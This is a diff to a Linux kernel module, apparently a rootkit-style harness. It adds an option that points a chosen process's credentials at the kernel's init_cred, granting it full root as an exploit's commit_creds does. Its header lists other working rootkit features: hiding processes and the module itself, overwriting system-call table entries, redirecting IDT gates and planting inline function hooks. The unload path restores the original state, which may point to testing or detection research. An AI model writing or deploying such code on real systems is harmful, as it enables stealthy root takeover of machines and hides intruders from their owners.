@@ -9,6 +9,9 @@
  *                       tasklist_lock_addr=ADDR lets it take the task list's lock
  *   hide_self=1         unlink this module from the module list
  *   root_pid=N          give task N root credentials in place
+ *   cred_pid=N init_cred_addr=ADDR
+ *                       point task N's credentials at the kernel's own (init_cred), as an exploit's
+ *                       commit_creds(&init_cred) does
  *   syscall_table=ADDR syscall_nr=N   overwrite sys_call_table[N] with our handler
  *   idt_table=ADDR idt_vector=N      point IDT gate N at our handler
  *   patch_addr=ADDR     plant a jmp at the start of a kernel function (inline hook)
@@ -44,6 +47,10 @@ static unsigned long patch_addr;
 module_param(hide_pid, int, 0);
 module_param(hide_self, int, 0);
 module_param(root_pid, int, 0);
+static int cred_pid;
+static unsigned long init_cred_addr;
+module_param(cred_pid, int, 0);
+module_param(init_cred_addr, ulong, 0);
 module_param(syscall_table, ulong, 0);
 module_param(syscall_nr, int, 0);
 module_param(idt_table, ulong, 0);
@@ -102,6 +109,8 @@ static struct task_struct *hidden_task;
 static unsigned long saved_syscall;
 static u16 saved_gate[8];
 static u8 saved_code[5];
+static struct task_struct *cred_task;
+static const struct cred *saved_cred, *saved_real_cred;
 static s32 *dispatch_site;
 static s32 saved_dispatch;
 static kuid_t saved_uid[4];
@@ -129,6 +138,17 @@ static int __init vms_init(void)
 		saved_gid[0] = c->gid; saved_gid[1] = c->egid; saved_gid[2] = c->sgid; saved_gid[3] = c->fsgid;
 		c->uid.val = c->euid.val = c->suid.val = c->fsuid.val = 0;
 		c->gid.val = c->egid.val = c->sgid.val = c->fsgid.val = 0;
+	}
+	if (cred_pid > 0 && init_cred_addr && (t = task_of(cred_pid))) {
+		const struct cred *kernel = (const struct cred *)init_cred_addr;
+
+		cred_task = get_task_struct(t);
+		saved_cred = t->cred;
+		saved_real_cred = t->real_cred;
+		get_cred(kernel);
+		get_cred(kernel);
+		rcu_assign_pointer(t->real_cred, kernel);
+		rcu_assign_pointer(t->cred, kernel);
 	}
 	if (syscall_table && syscall_nr >= 0) {
 		saved_syscall = ((unsigned long *)syscall_table)[syscall_nr];
@@ -221,6 +241,16 @@ static void __exit vms_exit(void)
 		struct cred *c = (struct cred *)t->real_cred;
 		c->uid = saved_uid[0]; c->euid = saved_uid[1]; c->suid = saved_uid[2]; c->fsuid = saved_uid[3];
 		c->gid = saved_gid[0]; c->egid = saved_gid[1]; c->sgid = saved_gid[2]; c->fsgid = saved_gid[3];
+	}
+	if (cred_task) {
+		/* an exec since took new credentials: put back only what is still ours */
+		if (cred_task->real_cred == (const struct cred *)init_cred_addr && cred_task->cred == (const struct cred *)init_cred_addr) {
+			rcu_assign_pointer(cred_task->real_cred, saved_real_cred);
+			rcu_assign_pointer(cred_task->cred, saved_cred);
+			put_cred((const struct cred *)init_cred_addr);
+			put_cred((const struct cred *)init_cred_addr);
+		}
+		put_task_struct(cred_task);
 	}
 	if (hidden_task) {
 		tasks_lock();
